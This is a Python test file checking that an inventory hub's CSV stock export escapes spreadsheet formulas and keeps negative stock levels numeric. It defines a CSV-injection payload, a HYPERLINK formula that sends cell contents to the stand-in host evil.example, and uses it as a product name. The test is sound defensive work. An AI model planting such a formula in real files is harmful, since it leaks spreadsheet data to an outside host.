"""The hub's stock export is safe to open in a spreadsheet (issue #13 item 14)."""

from __future__ import annotations

import csv
import dataclasses
import io

from app.hub import service as hub
from tests.hub.conftest import sign_in

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


async def test_inventory_csv_writes_formulas_as_text_and_numbers_as_numbers(hub_client, hub_db):
    from tests.hub.test_hub_service import apply, edit, ev

    await hub.save_product(hub_db, dataclasses.replace(edit("EVIL-1"), name=EVIL))
    await hub.add_store(hub_db, "S1", name="S1", kind="counter", lat=12.9, lon=77.6)
    await apply(hub_db, "S1", [ev(1, "stock.moved", {"sku": "EVIL-1", "delta": -3})])
    await sign_in(hub_client)
    exported = await hub_client.get("/hub/inventory.csv")
    (row,) = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert row["name"] == "'" + EVIL  # a spreadsheet shows it as text
    assert (row["on_hand"], row["available"]) == ("-3", "-3")  # a negative level stays a number
